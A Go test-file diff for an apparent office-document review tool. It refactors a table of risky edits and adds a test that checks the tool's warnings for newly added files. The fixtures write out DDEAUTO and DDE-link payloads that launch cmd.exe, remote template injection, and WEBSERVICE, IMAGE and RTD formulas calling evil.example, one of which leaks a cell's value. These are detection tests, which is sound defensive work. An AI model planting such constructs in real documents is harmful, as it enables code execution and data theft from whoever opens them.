@@ -27,7 +27,13 @@ func put(t *testing.T, wb *workshop.Workbench, name string, change func(parts ma
 		parts[k] = string(v)
 	}
 	change(parts)
-	_, err = wb.DraftView(workshop.Cause{}).Put(ctx, workshop.Path(name), workshop.PutOptions{}, func(w io.Writer) error {
+	putNew(t, wb, name, parts)
+}
+
+// putNew writes a package of parts to the draft.
+func putNew(t *testing.T, wb *workshop.Workbench, name string, parts map[string]string) {
+	t.Helper()
+	_, err := wb.DraftView(workshop.Cause{}).Put(ctx, workshop.Path(name), workshop.PutOptions{}, func(w io.Writer) error {
 		zw := zip.NewWriter(w)
 		for k, v := range parts {
 			if v == "" {
@@ -58,63 +64,77 @@ func rel(parts map[string]string, name, kind, target, more string) {
 
 const external = ` TargetMode="External"`
 
+// riskyChanges are changes that make a document do something, with what is said.
+var riskyChanges = []struct {
+	name, file string
+	change     func(p map[string]string)
+	want       []string
+}{
+	{"template", "contrato.docx", func(p map[string]string) {
+		rel(p, "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/t.dotm", external)
+	}, []string{"new external attachedTemplate: http://evil.example/t.dotm"}},
+	{"dde over runs", "contrato.docx", func(p map[string]string) {
+		p["word/document.xml"] = strings.Replace(p["word/document.xml"], "</w:body>", `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>`, 1)
+	}, []string{`p53: new field that reaches out: DDEAUTO c:\\cmd.exe "/k calc"`}},
+	{"hyperlink field", "contrato.docx", func(p map[string]string) {
+		p["word/document.xml"] = strings.Replace(p["word/document.xml"], "</w:body>", `<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://evil.example&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:body>`, 1)
+	}, []string{`p53: new field that reaches out: HYPERLINK "https://evil.example"`}},
+	{"hidden text", "contrato.docx", func(p map[string]string) {
+		p["word/document.xml"] = strings.Replace(p["word/document.xml"], "</w:body>", `<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r></w:p></w:body>`, 1)
+	}, []string{"p53: text that cannot be seen, formatted as hidden: “secret”"}},
+	{"macros and objects", "contrato.docx", func(p map[string]string) {
+		p["word/vbaProject.bin"], p["word/embeddings/oleObject1.bin"], p["word/afchunk.htm"] = "macro", "ole", "<p>x"
+		rel(p, "word/_rels/document.xml.rels", "vbaProject", "vbaProject.bin", "")
+		rel(p, "word/_rels/document.xml.rels", "oleObject", "embeddings/oleObject1.bin", "")
+		rel(p, "word/_rels/document.xml.rels", "aFChunk", "afchunk.htm", "")
+	}, []string{"new embedded document: word/afchunk.htm", "new embedded object: word/embeddings/oleObject1.bin", "new macros"}},
+	{"lost picture", "contrato.docx", func(p map[string]string) {
+		p["word/media/image1.png"] = ""
+	}, []string{"p0: the file of a picture is missing: word/media/image1.png", "header 1 (h0.p0): the file of a picture is missing: word/media/image1.png"}},
+	{"dde link", "sales.xlsx", func(p map[string]string) {
+		p["xl/externalLinks/externalLink1.xml"] = `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`
+		rel(p, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "")
+	}, []string{"new DDE link, which can start programs: cmd|/c calc"}},
+	{"linked workbook", "sales.xlsx", func(p map[string]string) {
+		p["xl/externalLinks/externalLink1.xml"] = `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`
+		rel(p, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "")
+		rel(p, "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "file:///c:/x.xlsx", external)
+	}, []string{"new external externalLinkPath: file:///c:/x.xlsx"}},
+	{"connections", "sales.xlsx", func(p map[string]string) {
+		p["xl/connections.xml"] = "<connections/>"
+		rel(p, "xl/_rels/workbook.xml.rels", "connections", "connections.xml", "")
+	}, []string{"new data connections: xl/connections.xml"}},
+	{"linked workbook of a server", "sales.xlsx", func(p map[string]string) {
+		p["xl/externalLinks/externalLink1.xml"] = `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`
+		rel(p, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "")
+		rel(p, "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", `\\evil.example\share\x.xlsx`, external)
+	}, []string{`new external externalLinkPath: \\evil.example\share\x.xlsx`}},
+	{"formulas that reach out", "sales.xlsx", func(p map[string]string) {
+		p["xl/worksheets/sheet1.xml"] = strings.Replace(p["xl/worksheets/sheet1.xml"], "</sheetData>", `<row r="900"><c r="A900"><f>_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)</f></c><c r="B900"><f>_xlfn.IMAGE("http://evil.example/p.png")</f></c><c r="C900"><f>RTD("evil.server",,"x")</f></c></row></sheetData>`, 1)
+	}, []string{
+		`the formula in Sales!A900 reaches out: =WEBSERVICE("http://evil.example/"&A1)`, `the formula in Sales!B900 reaches out: =IMAGE("http://evil.example/p.png")`,
+		`the formula in Sales!C900 reaches out: =RTD("evil.server",,"x")`,
+	}},
+	{"hidden sheet", "sales.xlsx", func(p map[string]string) {
+		p["xl/workbook.xml"] = strings.Replace(p["xl/workbook.xml"], `<sheet name="Resumen"`, `<sheet state="veryHidden" name="Resumen"`, 1)
+	}, []string{`the sheet "Resumen" is hidden now`}},
+	{"lost chart", "sales.xlsx", func(p map[string]string) {
+		p["xl/charts/chart1.xml"] = ""
+	}, []string{"Resumen!F2:N18: lost: the chart is missing from the file"}},
+	{"click", "presentacion.pptx", func(p map[string]string) {
+		p["ppt/slides/slide1.xml"] = strings.Replace(p["ppt/slides/slide1.xml"], "<p:cNvPr id=\"2\"", "<p:cNvPr descr='x' id=\"2\"", 1)
+		p["ppt/slides/slide1.xml"] = strings.Replace(p["ppt/slides/slide1.xml"], "</p:sld>", `<!-- --></p:sld>`, 1)
+		p["ppt/slides/slide1.xml"] = strings.Replace(p["ppt/slides/slide1.xml"], "<a:rPr", `<a:rPr><a:hlinkClick xmlns:r="x" r:id="" action="ppaction://program"/></a:rPr><a:rPr`, 1)
+	}, []string{"slide 1, “Título”: a click runs a program"}},
+	{"link in a layout", "presentacion.pptx", func(p map[string]string) {
+		rel(p, "ppt/slideMasters/_rels/slideMaster1.xml.rels", "image", "http://evil.example/pixel.png", external)
+	}, []string{"new external image: http://evil.example/pixel.png"}},
+}
+
 // RV-01: what a change makes a document do is named, wherever in the file it
 // stands.
 func TestRV01Warnings(t *testing.T) {
-	for _, c := range []struct {
-		name, file string
-		change     func(p map[string]string)
-		want       []string
-	}{
-		{"template", "contrato.docx", func(p map[string]string) {
-			rel(p, "word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/t.dotm", external)
-		}, []string{"new external attachedTemplate: http://evil.example/t.dotm"}},
-		{"dde over runs", "contrato.docx", func(p map[string]string) {
-			p["word/document.xml"] = strings.Replace(p["word/document.xml"], "</w:body>", `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>`, 1)
-		}, []string{`p53: new field that reaches out: DDEAUTO c:\\cmd.exe "/k calc"`}},
-		{"hyperlink field", "contrato.docx", func(p map[string]string) {
-			p["word/document.xml"] = strings.Replace(p["word/document.xml"], "</w:body>", `<w:p><w:fldSimple w:instr=" HYPERLINK &quot;https://evil.example&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p></w:body>`, 1)
-		}, []string{`p53: new field that reaches out: HYPERLINK "https://evil.example"`}},
-		{"hidden text", "contrato.docx", func(p map[string]string) {
-			p["word/document.xml"] = strings.Replace(p["word/document.xml"], "</w:body>", `<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r></w:p></w:body>`, 1)
-		}, []string{"p53: text that cannot be seen, formatted as hidden: “secret”"}},
-		{"macros and objects", "contrato.docx", func(p map[string]string) {
-			p["word/vbaProject.bin"], p["word/embeddings/oleObject1.bin"], p["word/afchunk.htm"] = "macro", "ole", "<p>x"
-			rel(p, "word/_rels/document.xml.rels", "vbaProject", "vbaProject.bin", "")
-			rel(p, "word/_rels/document.xml.rels", "oleObject", "embeddings/oleObject1.bin", "")
-			rel(p, "word/_rels/document.xml.rels", "aFChunk", "afchunk.htm", "")
-		}, []string{"new embedded document: word/afchunk.htm", "new embedded object: word/embeddings/oleObject1.bin", "new macros"}},
-		{"lost picture", "contrato.docx", func(p map[string]string) {
-			p["word/media/image1.png"] = ""
-		}, []string{"p0: the file of a picture is missing: word/media/image1.png", "header 1 (h0.p0): the file of a picture is missing: word/media/image1.png"}},
-		{"dde link", "sales.xlsx", func(p map[string]string) {
-			p["xl/externalLinks/externalLink1.xml"] = `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`
-			rel(p, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "")
-		}, []string{"new DDE link, which can start programs: cmd|/c calc"}},
-		{"linked workbook", "sales.xlsx", func(p map[string]string) {
-			p["xl/externalLinks/externalLink1.xml"] = `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`
-			rel(p, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml", "")
-			rel(p, "xl/externalLinks/_rels/externalLink1.xml.rels", "externalLinkPath", "file:///c:/x.xlsx", external)
-		}, []string{"new external externalLinkPath: file:///c:/x.xlsx"}},
-		{"connections", "sales.xlsx", func(p map[string]string) {
-			p["xl/connections.xml"] = "<connections/>"
-			rel(p, "xl/_rels/workbook.xml.rels", "connections", "connections.xml", "")
-		}, []string{"new data connections: xl/connections.xml"}},
-		{"hidden sheet", "sales.xlsx", func(p map[string]string) {
-			p["xl/workbook.xml"] = strings.Replace(p["xl/workbook.xml"], `<sheet name="Resumen"`, `<sheet state="veryHidden" name="Resumen"`, 1)
-		}, []string{`the sheet "Resumen" is hidden now`}},
-		{"lost chart", "sales.xlsx", func(p map[string]string) {
-			p["xl/charts/chart1.xml"] = ""
-		}, []string{"Resumen!F2:N18: lost: the chart is missing from the file"}},
-		{"click", "presentacion.pptx", func(p map[string]string) {
-			p["ppt/slides/slide1.xml"] = strings.Replace(p["ppt/slides/slide1.xml"], "<p:cNvPr id=\"2\"", "<p:cNvPr descr='x' id=\"2\"", 1)
-			p["ppt/slides/slide1.xml"] = strings.Replace(p["ppt/slides/slide1.xml"], "</p:sld>", `<!-- --></p:sld>`, 1)
-			p["ppt/slides/slide1.xml"] = strings.Replace(p["ppt/slides/slide1.xml"], "<a:rPr", `<a:rPr><a:hlinkClick xmlns:r="x" r:id="" action="ppaction://program"/></a:rPr><a:rPr`, 1)
-		}, []string{"slide 1, “Título”: a click runs a program"}},
-		{"link in a layout", "presentacion.pptx", func(p map[string]string) {
-			rel(p, "ppt/slideMasters/_rels/slideMaster1.xml.rels", "image", "http://evil.example/pixel.png", external)
-		}, []string{"new external image: http://evil.example/pixel.png"}},
-	} {
+	for _, c := range riskyChanges {
 		t.Run(c.name, func(t *testing.T) {
 			wb, set, _ := bench(t)
 			put(t, wb, c.file, c.change)
@@ -129,6 +149,35 @@ func TestRV01Warnings(t *testing.T) {
 			d, err := review.Content(ctx, wb, set, workshop.Path(c.file), formats.DiffOptions{})
 			require.NoError(t, err)
 			require.Empty(t, d.Warnings)
+		})
+	}
+}
+
+// RV-01: of a file that is new the same is said, once more in JSON and on the page.
+func TestRV01WarningsOfAddedFiles(t *testing.T) {
+	for _, c := range riskyChanges {
+		t.Run(c.name, func(t *testing.T) {
+			wb, set, _ := bench(t)
+			name := "new-" + c.file
+			b, err := os.ReadFile(filepath.Join(wb.Root(), c.file))
+			require.NoError(t, err)
+			parts := map[string]string{}
+			for k, v := range formatstest.Parts(t, b) {
+				parts[k] = string(v)
+			}
+			c.change(parts)
+			putNew(t, wb, name, parts)
+			changes, err := review.ChangeSet(ctx, wb, set)
+			require.NoError(t, err)
+			require.Len(t, changes, 1)
+			require.Equal(t, "added", changes[0].ChangeType)
+			d, err := review.Content(ctx, wb, set, workshop.Path(name), formats.DiffOptions{})
+			require.NoError(t, err)
+			require.Equal(t, changes[0].Warnings, d.Warnings)
+			t.Log(d.Warnings)
+			for _, want := range c.want {
+				require.Contains(t, d.Warnings, want)
+			}
 		})
 	}
 }
